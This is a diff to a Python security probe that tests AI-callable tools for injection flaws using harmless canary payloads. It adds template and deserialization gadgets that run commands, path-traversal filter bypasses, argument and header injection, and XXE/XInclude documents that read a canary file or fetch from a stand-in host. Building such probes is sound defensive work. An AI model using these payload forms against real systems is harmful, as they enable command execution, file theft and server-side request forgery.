@@ -2,7 +2,7 @@
 
 A tool that puts an argument into a command, a template or a path does what whoever writes the argument wants: a page
 that the model has read, for one. Honest inputs never show that. These do nothing but start `/bin/echo`, calculate a
-product, or open a canary.
+product, write an empty file to /tmp, look up a name of their own, or open a canary.
 """
 
 from __future__ import annotations
@@ -22,8 +22,9 @@ if TYPE_CHECKING:
     from proxy.core.model import JsonObject
     from proxy.probe.synthesise import SampleFiles
 
-type Proof = Literal["ran", "shown", "opened", "reached", "complained", "filtered"]
-MAX_CALLS = 200
+type Proof = Literal["ran", "shown", "opened", "reached", "complained", "filtered", "wrote", "headed", "placed"]
+# So many for all parameters in one input, and for these in further ones.
+MAX_CALLS, MAX_VARIED = 280, 160
 MAX_PARAMETERS = 6
 # So many items of a list, none of them long, are no reason to use up a machine; and neither is a number of this size,
 # except where the work doubles with each one more.
@@ -33,11 +34,15 @@ ECHO = "/bin/echo"
 METADATA = "169.254.169.254"
 # A module that every Python has, and no program imports.
 MODULE = "antigravity"
+UP = "a path that leads up"
+ENTITY = "an entity of XML"
+OPTION = "an option of a program"
 _PATHS = re.compile(r"\b(path|file|filename|filepath|uri|url|source|module|plugin|script|document|template|config)s?\b")
 _URLS = re.compile(r"\b(url|uri|link|endpoint|host|hostname|webhook|address|website|server|source)s?\b")
 _ENCODED = re.compile(r"\b(base ?64|b64|encoded|serialized|serialised|pickled?|data|payload|blob|bytes|object|state)\b")
 _MODULES = re.compile(r"\b(module|library|package|plugin|extension|class)\b")
 _TEMPLATES = re.compile(r"\b(template|format|expression|formula|equation|calculat\w*|evaluat\w*|math\w*)\b")
+_XML = re.compile(r"\b(xml|svg|soap|rss|atom|feed|sitemap|html|markup|docx|xlsx|invoice|wsdl|xsd|xslt)\b")
 _SQL = re.compile(r"\b(sql|sqlite|postgres\w*|mysql)\b")
 _STATEMENTS = re.compile(r"\b(sql|statement|query|queries)\b")
 
@@ -60,6 +65,11 @@ class Bait:
     secret: str  # the path of a canary
     files: tuple[str, ...]  # that start `/bin/echo` with `token`, if something runs them
     token: str
+
+    @property
+    def lure(self) -> str:
+        """The name of a file that is nowhere: where it is looked for, a tool has its folder."""
+        return f"{self.token}.txt"
 
 
 @dataclass(frozen=True, slots=True)
@@ -104,9 +114,16 @@ def attempts(tool: JsonObject, samples: SampleFiles, bait: Bait, *, sql: bool = 
     bare = [each.arguments for each in inputs if each.label == "required"]
     about = _words(f"{tool.get('name', '')} {tool.get('description', '')}")
     found: list[Attempt] = []
+    tried: list[tuple[str, JsonObject]] = []
     # One input after another: where there are too many, each text has been tried in the first.
     for arguments in [*bare, *(each for each in bases if each not in bare)]:
+        if len(found) >= MAX_VARIED:
+            break
         for name in (each for each in _texts(bases) if each in arguments):
+            beside = (name, {other: value for other, value in arguments.items() if other != name})
+            if beside in tried:
+                continue
+            tried.append(beside)
             described = _words(f"{name} {_described(root, name)}")
             runs = not EXEC_PARAMETERS.isdisjoint(split_words(name))
             made = (_put(arguments, name, each) for each in _payloads(described, about, bait, runs=runs, sql=sql))
@@ -162,6 +179,9 @@ def _payloads(described: str, about: str, bait: Bait, *, runs: bool, sql: bool) 
         yield from _modules(described)
         if _ENCODED.search(described):
             yield from _encoded()
+        yield from _options(bait)
+        if _XML.search(f"{described} {about}"):
+            yield from _entities(bait)
     else:
         yield from _asked(bait)
     yield from _templates(expected=_TEMPLATES.search(f"{described} {about}") is not None)
@@ -170,6 +190,10 @@ def _payloads(described: str, about: str, bait: Bait, *, runs: bool, sql: bool) 
         yield _Text("a quotation mark in a query", "O'Brien'\"", "complained", "'")
         token = marker()
         yield _Text("brackets in a filter", f"{token}*)(|(q=*", "filtered", token)
+
+
+# A module of Node, in source of either kind.
+_NODE = "process.getBuiltinModule('child_process').execSync('{}')"
 
 
 def _commands() -> Iterator[_Text]:
@@ -185,7 +209,11 @@ def _commands() -> Iterator[_Text]:
         "${{__import__('os').popen('{}').read()}}",
         "#import os\n$os.popen('{}').read()",
         "{{% import os %}}{{{{os.popen('{}').read()}}}}",
+        *(form % _NODE for form in ("%s", "{{{{%s}}}}", "${{%s}}", "<%%= %s %%>", "#{{%s}}")),
         "!!python/object/apply:os.system ['{}']",
+        # What unpacks objects calls what they say: node-serialize, and jsonpickle.
+        '{{"q":"_$$ND_FUNC$$_function(){{' + _NODE + '}}()"}}',
+        '{{"py/reduce":[{{"py/type":"os.system"}},{{"py/tuple":["{}"]}}]}}',
     )
     for form in code:
         token = marker()
@@ -196,7 +224,7 @@ def _templates(*, expected: bool) -> Iterator[_Text]:
     # To a tool that says that it fills in templates, or calculates, a product is no escape; the objects of its
     # language are.
     if not expected:
-        for form in ("{{{{{}*{}}}}}", "${{{}*{}}}", "<%= {}*{} %>"):
+        for form in ("{{{{{}*{}}}}}", "${{{}*{}}}", "<%= {}*{} %>", "#{{{}*{}}}", "{{{}*{}}}", "@({}*{})"):
             one, other = 10_000 + secrets.randbelow(80_000), 10_000 + secrets.randbelow(80_000)
             yield _Text("an expression in a template", form.format(one, other), "shown", str(one * other))
     for form in ("{0.__class__}", "{name.__class__}", "{value.__class__}"):
@@ -213,10 +241,41 @@ def _asked(bait: Bait) -> Iterator[_Text]:
 
 
 def _places(described: str, bait: Bait) -> Iterator[_Text]:
-    up = "../" * 12
-    yield _Text("a path that leads up", f"{up}{bait.secret.lstrip('/')}", "opened", bait.secret)
+    bare = bait.secret.lstrip("/")
+    yield _Text("a name in a folder", bait.lure, "placed", bait.lure)
+    # Filters take the steps out once, look for them before they decode them, or know one kind of slash.
+    for step in ("../", "....//", "..%2f", "%2e%2e/", "..\\"):
+        yield _Text(UP, f"{step * 12}{bare}", "opened", bait.secret)
+    yield _Text(UP, f"{'../' * 12}{bare}\0.txt", "opened", bait.secret)
     if _URLS.search(described):
         yield _Text("the address of a cloud's metadata", f"http://{METADATA}/latest/meta-data/", "reached", METADATA)
+
+
+def _options(bait: Bait) -> Iterator[_Text]:
+    """Yield options of usual programs, for a tool that puts a text among a program's words as it is."""
+    token = marker()
+    for form in ("--output={}", "-o{}"):
+        yield _Text(OPTION, form.format(f"/tmp/{token}"), "wrote", f"/tmp/{token}")  # noqa: S108
+    yield _Text(OPTION, f"-oProxyCommand={ECHO} {token}", "ran", token)
+    yield _Text(OPTION, f"--file={bait.secret}", "opened", bait.secret)
+    yield _Text("a line of a header", f"{token}\r\n{token}: 1", "headed", f"\r\n{token}: 1")
+
+
+def _entities(bait: Bait) -> Iterator[_Text]:
+    """Yield documents whose entities a reader of XML should not look up: a secret, and another host."""
+    token = marker()
+    address = f"http://{token}.example/a.dtd"
+    for head, body in (
+        (f'<!DOCTYPE a [<!ENTITY q SYSTEM "file://{bait.secret}">]>', "<a>&q;</a>"),
+        ("", f'<a xmlns:x="http://www.w3.org/2001/XInclude"><x:include parse="text" href="file://{bait.secret}"/></a>'),
+    ):
+        yield _Text(ENTITY, f'<?xml version="1.0"?>{head}{body}', "opened", bait.secret)
+    for head, body in (
+        (f'<!DOCTYPE a [<!ENTITY q SYSTEM "{address}">]>', "<a>&q;</a>"),
+        (f'<!DOCTYPE a [<!ENTITY % q SYSTEM "{address}"> %q;]>', "<a/>"),
+        (f'<!DOCTYPE a SYSTEM "{address}">', "<a/>"),
+    ):
+        yield _Text(ENTITY, f'<?xml version="1.0"?>{head}{body}', "reached", f"{token}.example")
 
 
 def _files(described: str, bait: Bait) -> Iterator[_Text]:
@@ -231,7 +290,7 @@ def _modules(described: str) -> Iterator[_Text]:
 
 
 def _encoded() -> Iterator[_Text]:
-    for make in (_script, _pickle):
+    for make in (_script, _pickle, _function):
         token = marker()
         yield _Text("code in base64", base64.b64encode(make(token)).decode(), "ran", token)
     token = marker()
@@ -240,6 +299,10 @@ def _encoded() -> Iterator[_Text]:
 
 def _script(token: str) -> bytes:
     return f"__import__('os').system('{ECHO} {token}')".encode()
+
+
+def _function(token: str) -> bytes:
+    return ('{"q":"_$$ND_FUNC$$_function(){' + _NODE.format(f"{ECHO} {token}") + '}()"}').encode()
 
 
 def _pickle(token: str) -> bytes:
